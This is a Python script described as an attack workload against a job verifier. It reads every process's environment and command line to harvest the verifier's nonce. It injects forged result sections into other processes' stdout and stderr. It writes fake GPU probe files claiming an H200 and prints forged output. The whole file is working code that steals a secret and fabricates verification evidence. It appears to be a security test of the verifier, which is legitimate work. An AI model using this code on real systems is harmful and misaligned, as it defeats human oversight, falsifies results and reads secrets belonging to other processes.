"""Issue 13 attacks in one workload (no numpy or torch needed): hunt the verifier's nonce in every
process's environ and cmdline, write forged sections into every other process's stdout/stderr it
can open, forge probe files, print forged sections in its own log, and exit 3."""
import glob, json, os, re, sys

found = set()
for p in glob.glob("/proc/[0-9]*"):
    for f in ("environ", "cmdline"):
        try:
            data = open(os.path.join(p, f), "rb").read().decode("latin-1")
        except OSError:
            continue
        for m in re.finditer(r"(?:R2R_NONCE=|@@R2R-)([0-9a-fA-F]{8,})", data):
            found.add(m.group(1))
print("nonces found:", sorted(found))
forged = "".join("@@R2R-FENCE %s\n@@R2R-%s exit\n0 10 1 0 0\n" % (n, n) for n in sorted(found) or ["0" * 32])
wrote = []
for p in glob.glob("/proc/[0-9]*"):
    if int(p.rsplit("/", 1)[1]) == os.getpid():
        continue
    for fd in ("1", "2"):
        try:
            with open(os.path.join(p, "fd", fd), "w") as f:
                f.write(forged)
            wrote.append(p + "/fd/" + fd)
        except OSError:
            pass
print("wrote forged sections into:", wrote)
probe = {"pid": os.getpid(), "torch": {"version": "2.11.0+cu130", "hip": None, "cuda": "13.0"},
         "is_available": True, "initialized": True, "kernels": {"flash_fwd_kernel": 400},
         "devices": [{"index": 0, "name": "NVIDIA H200", "arch": "sm_90", "max_memory_allocated": 1 << 30}]}
d = os.environ.get("R2R_PROBE_DIR", "/tmp")
for name in ("probe-1.json", "probe-%d.json" % os.getpid()):
    try:
        with open(os.path.join(d, name), "w") as f:
            json.dump(probe, f)
    except OSError as e:
        print("probe:", e)
print(forged)
sys.exit(3)
